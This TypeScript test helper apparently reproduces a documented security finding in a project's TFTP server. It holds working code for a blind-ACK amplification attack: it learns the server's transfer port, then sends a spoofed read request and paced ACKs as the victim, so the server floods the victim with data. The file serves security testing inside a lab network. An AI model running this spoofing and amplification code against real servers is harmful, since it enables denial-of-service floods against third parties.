/**
 * The blind-ACK amplification attack on a TFTP server (security finding 6),
 * run inside a lab namespace that holds the victim's address without
 * announcing it (so it can send from it; the victim gets the answers):
 *
 *   node --import tsx test/helpers/tftp-blind-attacker.ts SERVER FILE VICTIM VICTIM_PORT ACKS [OPTIONS]
 *
 * 1. Learns the server's transfer port as any client can: asks for FILE from
 *    its own address and notes the port the answer comes from.
 * 2. Sends a read request with blksize 1468 and windowsize 64 (or the
 *    OPTIONS given, as JSON: {} for none) from VICTIM:VICTIM_PORT (spoofed;
 *    the victim never speaks).
 * 3. Sends, still as the victim and blind (it never sees the victim's
 *    packets), ACK 0 and then the ACK of each following window's last block
 *    (64, 128, ...), ACKS in all, to the learned port: what a client that
 *    received every window would send.
 *
 * Prints one JSON line: the learned port and the UDP payload bytes sent as the victim.
 */
import dgram from 'node:dgram';
import { encodeAck, encodeRequest, Op } from '../../protocols/tftp/codec.ts';

const [server, file, victim, victimPortText, acksText, optionsText] = process.argv.slice(2) as [string, string, string, string, string, string | undefined];
const victimPort = Number(victimPortText);
const acks = Number(acksText);
const WINDOW = 64;
const options = new Map(optionsText ? Object.entries(JSON.parse(optionsText) as Record<string, string>) : [['blksize', '1468'], ['windowsize', String(WINDOW)]]);
const settle = (ms: number) => new Promise((r) => setTimeout(r, ms));

// 1. The transfer port, from an honest request of our own.
const own = dgram.createSocket('udp4');
await new Promise<void>((r) => own.bind(0, r));
const learned = await new Promise<number>((resolve, reject) => {
  const timer = setTimeout(() => reject(new Error('no answer to our own request')), 5000);
  own.once('message', (_b, rinfo) => { clearTimeout(timer); resolve(rinfo.port); });
  own.send(encodeRequest({ op: Op.RRQ, filename: file, mode: 'octet', options }), 69, server);
});

// 2. and 3. As the victim.
const spoofed = dgram.createSocket('udp4');
await new Promise<void>((r) => spoofed.bind(victimPort, victim, r));
let sent = 0;
const send = (b: Buffer, port: number) => new Promise<void>((resolve, reject) => { sent += b.length; spoofed.send(b, port, server, (e) => (e ? reject(e) : resolve())); });
await send(encodeRequest({ op: Op.RRQ, filename: file, mode: 'octet', options }), 69);
await settle(200);
for (let i = 0; i < acks; i++) {
  await send(encodeAck((i * WINDOW) & 0xffff), learned);
  // Paced like a client on a LAN, so every window has left before its ACK arrives.
  await settle(10);
}
own.close();
spoofed.close();
process.stdout.write(`${JSON.stringify({ learnedPort: learned, spoofedPackets: 1 + acks, spoofedPayloadBytes: sent })}\n`);
